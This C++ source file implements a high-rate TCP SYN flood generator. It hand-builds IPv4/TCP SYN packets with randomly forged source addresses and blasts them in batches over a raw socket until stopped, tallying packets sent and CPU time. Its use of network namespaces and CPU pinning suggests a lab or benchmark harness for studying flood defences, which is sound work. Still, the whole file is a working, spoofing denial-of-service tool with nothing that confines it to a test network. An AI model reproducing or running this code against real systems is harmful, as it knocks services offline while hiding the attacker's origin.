#include "syn_flood.hpp"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <ctime>
#include <cerrno>
#include <cstring>
#include <stdexcept>
#include <string>

namespace flood {

namespace {

// IPv4 header (20 bytes) + TCP header with one option, MSS (24 bytes): the
// smallest SYN a real client sends.
constexpr std::size_t ip_header = 20, tcp_length = 24, packet_length = ip_header + tcp_length;
using Packet = std::array<std::uint8_t, packet_length>;

void put16(std::uint8_t *p, std::uint32_t value) {
    p[0] = static_cast<std::uint8_t>(value >> 8);
    p[1] = static_cast<std::uint8_t>(value);
}

void put32(std::uint8_t *p, std::uint32_t value) {
    put16(p, value >> 16);
    put16(p + 2, value);
}

// The Internet checksum of the TCP segment with its pseudo-header. The
// kernel fills in the IPv4 header's own checksum, length and id
// (IP_HDRINCL), never the transport's.
std::uint16_t tcp_checksum(const Packet &packet) {
    std::uint32_t sum = 6 + tcp_length;  // protocol and TCP length of the pseudo-header
    for (std::size_t i = 12; i < 20; i += 2) sum += std::uint32_t(packet[i] << 8 | packet[i + 1]);  // addresses
    for (std::size_t i = ip_header; i < packet_length; i += 2) sum += std::uint32_t(packet[i] << 8 | packet[i + 1]);
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return static_cast<std::uint16_t>(~sum);
}

struct Random {
    std::uint64_t state;
    std::uint32_t next() {  // xorshift64*: cheap next to a system call
        state ^= state >> 12;
        state ^= state << 25;
        state ^= state >> 27;
        return static_cast<std::uint32_t>((state * 0x2545f4914f6cdd1dull) >> 32);
    }
};

void write_syn(Packet &p, const FloodTarget &target, Random &random) {
    p.fill(0);
    p[0] = 0x45;               // IPv4, 5-word header
    put16(&p[6], 0x4000);      // don't fragment
    p[8] = 64;                 // TTL
    p[9] = IPPROTO_TCP;
    const std::uint32_t host_bits = target.source_length == 32 ? 0 : ~std::uint32_t(0) >> target.source_length;
    put32(&p[12], target.source_network | (random.next() & host_bits));
    put32(&p[16], target.destination);
    std::uint8_t *tcp = &p[ip_header];
    put16(tcp, 1024 + random.next() % 64512);  // source port
    put16(tcp + 2, static_cast<std::uint32_t>(target.port));
    put32(tcp + 4, random.next());  // sequence number
    tcp[12] = (tcp_length / 4) << 4;
    tcp[13] = 0x02;  // SYN
    put16(tcp + 14, 64240);  // window
    tcp[20] = 2;  // MSS option
    tcp[21] = 4;
    put16(tcp + 22, 1460);
    put16(tcp + 16, tcp_checksum(p));
}

}  // namespace

SynFlood::SynFlood(const NetworkNamespace &ns, int cpu, const FloodTarget &target)
    : thread_([this, &ns, cpu, target] {
          try {
              send_until_stopped(ns, cpu, target);
          } catch (...) {
              failure_ = std::current_exception();
          }
      }) {}

SynFlood::~SynFlood() {
    if (thread_.joinable()) {
        stopping_ = true;
        thread_.join();
    }
}

std::int64_t SynFlood::stop() {
    stopping_ = true;
    thread_.join();
    if (failure_) std::rethrow_exception(failure_);
    return sent_;
}

void SynFlood::send_until_stopped(const NetworkNamespace &ns, int cpu, FloodTarget target) {
    ns.enter_this_thread();
    pin_to_cpu(cpu);
    // IPPROTO_RAW: we write the IP header ourselves, with forged sources.
    int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    if (fd < 0) throw std::runtime_error(std::string("raw socket: ") + std::strerror(errno));
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_addr.s_addr = htonl(target.destination);
    if (connect(fd, reinterpret_cast<sockaddr *>(&to), sizeof to) != 0) {
        close(fd);
        throw std::runtime_error(std::string("raw socket connect: ") + std::strerror(errno));
    }
    constexpr std::size_t batch = 64;
    std::array<Packet, batch> packets{};
    std::array<iovec, batch> iov{};
    std::array<mmsghdr, batch> messages{};
    for (std::size_t i = 0; i < batch; ++i) {
        iov[i] = {packets[i].data(), packet_length};
        messages[i].msg_hdr.msg_iov = &iov[i];
        messages[i].msg_hdr.msg_iovlen = 1;
    }
    Random random{0x9e3779b97f4a7c15ull ^ static_cast<std::uint64_t>(getpid())};
    while (!stopping_) {
        for (auto &packet : packets) write_syn(packet, target, random);
        int n = sendmmsg(fd, messages.data(), batch, 0);
        if (n > 0) sent_ += n;
        else if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) {
            int error = errno;
            close(fd);
            throw std::runtime_error(std::string("sending SYNs: ") + std::strerror(error));
        }
    }
    close(fd);
    timespec used{};
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &used);
    cpu_seconds_ = static_cast<double>(used.tv_sec) + static_cast<double>(used.tv_nsec) / 1e9;
}

}  // namespace flood
